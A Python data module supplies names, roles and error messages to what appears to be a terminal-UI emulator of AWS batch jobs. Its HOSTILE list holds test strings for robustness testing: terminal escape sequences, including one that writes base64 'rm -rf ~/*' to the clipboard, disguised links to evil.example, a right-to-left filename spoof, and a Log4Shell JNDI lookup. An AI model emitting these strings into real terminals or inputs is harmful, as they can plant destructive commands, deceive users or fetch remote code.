"""The vocabulary the emulator draws from: models, names, buckets, messages, hostile strings.

Plain data, so the generator reads as a recipe and a newcomer can make the world look
like their own account by editing lists.
"""

from __future__ import annotations

ACCOUNT = "123456789012"

# Bedrock batch inference models; "{region}" is filled per region for ARNs and profiles.
BEDROCK_MODELS = (
    "anthropic.claude-3-haiku-20240307-v1:0",
    "anthropic.claude-3-haiku-20240307-v1:0",
    "anthropic.claude-3-5-haiku-20241022-v1:0",
    "anthropic.claude-3-5-sonnet-20240620-v1:0",
    "anthropic.claude-3-5-sonnet-20241022-v2:0",
    "us.anthropic.claude-3-7-sonnet-20250219-v1:0",
    "us.anthropic.claude-sonnet-4-20250514-v1:0",
    "amazon.nova-lite-v1:0",
    "amazon.nova-lite-v1:0",
    "amazon.nova-micro-v1:0",
    "amazon.nova-pro-v1:0",
    "amazon.titan-embed-text-v2:0",
    "meta.llama3-1-8b-instruct-v1:0",
    "meta.llama3-1-70b-instruct-v1:0",
    "mistral.mistral-large-2407-v1:0",
    "arn:aws:bedrock:{region}:" + ACCOUNT + ":application-inference-profile/k3m9x2p7q1rz",
)

BEDROCK_USE_CASES = (
    "support-ticket-summaries", "product-descriptions", "review-sentiment", "claims-triage",
    "doc-embeddings", "catalog-enrichment", "call-transcript-qa", "churn-notes",
    "search-query-rewrite", "contract-clauses", "eval-golden-set", "translation-de-fr",
    "moderation-backfill", "faq-generation", "email-intent", "invoice-extraction",
)
TEAMS = ("ml", "data", "growth", "search", "risk", "cx", "platform")

PERSONALIZE_USE_CASES = (
    "daily-recs", "homepage-top-picks", "email-campaign", "similar-items-backfill",
    "cold-start-users", "push-notification-recs", "weekly-digest", "cart-upsell",
)
SEGMENT_USE_CASES = (
    "sneaker-fans", "lapsed-buyers", "audience-outdoor", "genre-affinity-scifi",
    "promo-eligible", "high-intent-browsers", "newsletter-segment",
)

# Solution names; versions are generated per region.
INFERENCE_SOLUTIONS = (
    "user-personalization-v2-prod", "similar-items-catalog", "personalized-ranking-v2",
    "trending-now", "next-best-action",
)
SEGMENT_SOLUTIONS = ("item-affinity-prod", "item-attribute-affinity-genre")
# What each solution was trained in and with: (dataset group name, recipe name). A region's
# dataset groups hold several solutions, as an account's do.
SOLUTION_ORIGINS = {
    "user-personalization-v2-prod": ("retail-prod", "aws-user-personalization-v2"),
    "similar-items-catalog": ("retail-prod", "aws-similar-items"),
    "personalized-ranking-v2": ("retail-prod", "aws-personalized-ranking-v2"),
    "trending-now": ("media-streaming", "aws-trending-now"),
    "next-best-action": ("media-streaming", "aws-next-best-action"),
    "item-affinity-prod": ("marketing-audiences", "aws-item-affinity"),
    "item-attribute-affinity-genre": ("media-streaming", "aws-item-attribute-affinity"),
}

BUCKETS = ("acme-ml-batch-{region}", "genai-batch-io", "data-lake-prod-batch", "personalize-exports-{region}")

BEDROCK_ROLES = (
    "BedrockBatchInferenceRole",
    "service-role/AmazonBedrockExecutionRoleForBatch_7Q2KX",
    "ml-platform/bedrock-batch",
)
PERSONALIZE_ROLES = ("PersonalizeBatchRole", "service-role/AmazonPersonalize-ExecutionRole-1712345678901")

BEDROCK_VALIDATION_FAILURES = (
    "Input file {input} contains 3 malformed records: line 17: Expecting ',' delimiter.",
    "The number of records (42) is below the minimum of 100 required for a batch inference job.",
    "Access denied while reading {input}. Check that the service role has s3:GetObject permission.",
    "The model {model} does not support batch inference in this Region.",
    "Record 9 exceeds the maximum input size for the model.",
)
BEDROCK_RUN_FAILURE = "Internal error while processing the job. Records processed so far are in {output}."
BEDROCK_PARTIAL = "{errors} of {total} records failed. Error details are in the .jsonl.out files in {output}."
BEDROCK_EXPIRED = "The job did not complete within the timeout of {hours} hours."
BEDROCK_STOPPED = "Stopped by user request."

PERSONALIZE_FAILURES = (
    "Insufficient privileges for accessing data in S3: {input}",
    "Input file {input} has invalid JSON on line 12.",
    "The solution version {solution} is not ACTIVE.",
    "The number of users in the input exceeds the limit of 50000.",
    "Invalid filter expression: the item metadata field GENRE does not exist.",
)

# SageMaker batch transform: model names (the API's ModelName pattern), what the jobs are for,
# the instance types batch transform is run on, and how the input is shaped.
SAGEMAKER_MODELS = (
    "xgboost-churn-model-v7", "xgboost-churn-model-v7", "sklearn-fraud-scorer-20241102",
    "pytorch-image-embeddings-v3", "huggingface-pytorch-inference-2025-01-14-09-12-33-120",
    "bert-base-sentiment-v2", "tabular-automl-best-candidate", "blazingtext-classify-v4",
    "catboost-ltv-prod", "clip-vit-l14-embeddings", "DeepAR-demand-forecast-v12",
)
SAGEMAKER_USE_CASES = (
    "churn-scoring", "fraud-backfill", "image-embeddings", "review-sentiment", "ltv-forecast",
    "doc-classify", "product-embeddings", "demand-forecast", "xgboost", "sagemaker-scikit-learn",
)
SAGEMAKER_INSTANCES = (
    "ml.m5.xlarge", "ml.m5.xlarge", "ml.m5.2xlarge", "ml.m5.4xlarge", "ml.c5.2xlarge", "ml.c5.4xlarge",
    "ml.g4dn.xlarge", "ml.g4dn.2xlarge", "ml.g5.2xlarge", "ml.p3.2xlarge", "ml.inf2.xlarge",
)
# (content type, split type, accept, assemble with, batch strategy)
SAGEMAKER_IO = (
    ("text/csv", "Line", "text/csv", "Line", "MultiRecord"),
    ("text/csv", "Line", "text/csv", "Line", "MultiRecord"),
    ("application/jsonlines", "Line", "application/jsonlines", "Line", "MultiRecord"),
    ("application/x-image", "None", "application/json", "None", "SingleRecord"),
    ("application/x-recordio-protobuf", "RecordIO", "application/x-recordio-protobuf", "None", "MultiRecord"),
)
SAGEMAKER_FAILURES = (
    "ClientError: See job logs for more information",
    "AlgorithmError: See job logs for more information",
    "ClientError: Failed to download data. Unable to download data from S3: {input}. "
    "Please ensure the execution role has s3:GetObject permission.",
    "CapacityError: Unable to provision requested ML compute capacity. Please retry using a different ML instance type.",
    "InternalServerError: We encountered an internal error. Please try again.",
    "ClientError: Too many objects failed. See logs for more information",
)

# Strings that try to break a terminal UI. Each is real-world-plausible garbage: markup that
# a naive renderer interprets, escape sequences that clear the screen or write the
# clipboard, text direction tricks, invisible and double-width characters, huge strings.
HOSTILE = (
    "[bold red]x[/]",
    "[link=https://evil.example/phish]click me[/link]",
    "[blink]urgent[/blink] [reverse]job[/]",
    "\x1b[2J\x1b[H\x1b[31mscreen cleared\x1b[0m",
    "\x1b[1;32mgreen\x1b[0m \x1b[5mblink\x1b[25m",
    "\x1b]52;c;cm0gLXJmIH4vKg==\x07clipboard",
    "\x1b]8;;https://evil.example/\x1b\\hyperlink\x1b]8;;\x1b\\",
    "\x1b]0;pwned title\x07",
    "report\u202egnp.exe",
    "\u2066isolated\u2069 \u202aembedded\u202c",
    "zero\u200bwidth\u200d\ufeffjoiners",
    "批处理推理作业-全角文字",
    "🚀🔥👩\u200d💻 emoji-job",
    "Z\u0335\u0321a\u0338l\u0337g\u0336o",
    "line one\nline two\r\nline three\ttabbed",
    "\x9b31mC1 CSI\x9c \x07bell\x08back",
    "%s%n{0}${jndi:ldap://evil.example/a}",
)
HOSTILE_LONG_LENGTH = 2000


def hostile_long(seed: int) -> str:
    """A 2,000-character string mixing wide, markup and escape pieces."""
    piece = HOSTILE[seed % len(HOSTILE)] + " 長い名前 "
    return (piece * (HOSTILE_LONG_LENGTH // len(piece) + 1))[:HOSTILE_LONG_LENGTH]
